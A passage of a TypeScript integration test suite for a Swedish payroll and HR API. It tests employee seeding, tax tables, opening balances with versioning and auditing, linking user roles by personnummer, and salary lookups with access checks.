    expect(new Set(list.items.map((item: { employmentType: string }) => item.employmentType))).toEqual(
      new Set(['permanent', 'fixed-term', 'hourly']),
    );

    const details = await Promise.all(
      list.items.map(async (item: { id: string }) => ({
        employee: (await client('GET', `/employees/${item.id}`)).json(),
        employments: (await client('GET', `/employees/${item.id}/employments`)).json(),
      })),
    );
    const tables = new Set(
      details.filter((d) => d.employee.tax.method === 'table').map((d) => d.employee.tax.table),
    );
    expect(tables.size).toBeGreaterThan(5);
    for (const { employee } of details) {
      if (employee.tax.method !== 'table') continue;
      const isOld = thisYear - 1 - Number(employee.birthDate.slice(0, 4)) >= 66;
      if (thisYear <= 2026) expect(employee.tax.column, employee.birthDate).toBe(isOld ? 3 : 1);
    }
    const vacationDays = new Set(details.map((d) => d.employments[0].vacation.paidDaysPerYear));
    expect(Math.min(...vacationDays)).toBe(25);
    expect(details.some((d) => d.employments[0].vacation.rule === 'procentregeln')).toBe(true);
    expect(details.some((d) => d.employments[0].salaryRows.length >= 2)).toBe(true);

    // The creator's manager role has a team.
    const manager = await testApp.db
      .selectFrom('employer_identity_role')
      .select('id')
      .where('employer_id', '=', company.employerId)
      .where('role', '=', 'manager')
      .executeTakeFirstOrThrow();
    const team = (
      await employerClient(
        testApp.app,
        owner,
        company.employerId,
        manager.id,
      )('GET', '/employees?pageSize=100')
    ).json();
    expect(team.total).toBe(15);
  });
});

describe('opening balances and linking a user role later', () => {
  it('saves opening balances with the version, visible to the admin, and audited', async () => {
    const created = await createEmployee();
    const balances = {
      asOf: '2025-03-31',
      vacation: { savedDays: 5, paidDays: 12.5, advanceDays: 0 },
      yearToDate: { grossOre: 9_600_000, taxOre: 2_400_000, benefitsOre: 150_000 },
    };
    const bad = await asAdmin('PUT', `/employees/${created.id}/opening-balances`, {
      ...balances,
      version: 1,
      yearToDate: { ...balances.yearToDate, grossOre: -1 },
    });
    expect(bad.json().errors).toEqual({ 'yearToDate.grossOre': ['Beloppet får inte vara negativt'] });
    const saved = await asAdmin('PUT', `/employees/${created.id}/opening-balances`, {
      ...balances,
      version: 1,
    });
    expect(saved.statusCode, saved.body).toBe(200);
    expect(saved.json()).toMatchObject({ version: 2, openingBalances: balances });
    const stale = await asAdmin('PUT', `/employees/${created.id}/opening-balances`, {
      ...balances,
      version: 1,
    });
    expect(stale.statusCode).toBe(409);
    const events = (await asAdmin('GET', `/employees/${created.id}/audit`)).json();
    expect(events[0]).toMatchObject({
      action: 'employee.opening-balances-set',
      after: { openingBalances: balances },
    });
  });

  it('links a person who signs up after the employment was created, by personnummer', async () => {
    const personnummer = nextPersonnummer();
    const created = await createEmployee(buildEmployee({ personnummer }));
    const [employment] = (await asAdmin('GET', `/employees/${created.id}/employments`)).json();
    const none = await asAdmin('POST', `/employees/${created.id}/employments/${employment.id}/user-role`);
    expect(none.statusCode).toBe(404);
    expect(none.json().code).toBe('IDENTITY_NOT_FOUND');

    const person = await signUpUser(testApp.app, testApp.db);
    const identity = await testApp.db
      .selectFrom('identity')
      .select('id')
      .orderBy('created_at', 'desc')
      .executeTakeFirstOrThrow();
    await testApp.db.updateTable('identity').set({ personnummer }).where('id', '=', identity.id).execute();
    const linked = await asAdmin('POST', `/employees/${created.id}/employments/${employment.id}/user-role`);
    expect(linked.statusCode, linked.body).toBe(200);
    const again = await asAdmin('POST', `/employees/${created.id}/employments/${employment.id}/user-role`);
    expect(again.json().userRoleId).toBe(linked.json().userRoleId);
    const mine = await employerClient(
      testApp.app,
      person,
      employerId,
      linked.json().userRoleId,
    )('GET', '/my-employee');
    expect(mine.json()).toMatchObject({ id: created.id, personnummer });
  });

  it('answers no salary outside the employment, and 404 for another employee’s employment', async () => {
    const created = await createEmployee(buildEmployee(), buildEmployment({ endDate: '2025-12-31' }));
    const other = await createEmployee();
    const [employment] = (await asAdmin('GET', `/employees/${created.id}/employments`)).json();
    const after = (
      await asAdmin('GET', `/employees/${created.id}/employments/${employment.id}/salary?date=2026-01-01`)
    ).json();
    expect(after.amountOre).toBeNull();
    const within = (
      await asAdmin('GET', `/employees/${created.id}/employments/${employment.id}/salary?date=2025-12-31`)
    ).json();
    expect(within.amountOre).toBe(3_200_000);
    const bad = await asAdmin(
      'GET',
      `/employees/${created.id}/employments/${employment.id}/salary?date=2025-13-01`,
    );
    expect(bad.json().errors).toEqual({ 'querystring.date': ['Ogiltigt datum'] });
    const crossed = await asAdmin(
      'GET',
      `/employees/${other.id}/employments/${employment.id}/salary?date=2025-06-01`,
    );
    expect(crossed.statusCode).toBe(404);
  });
});
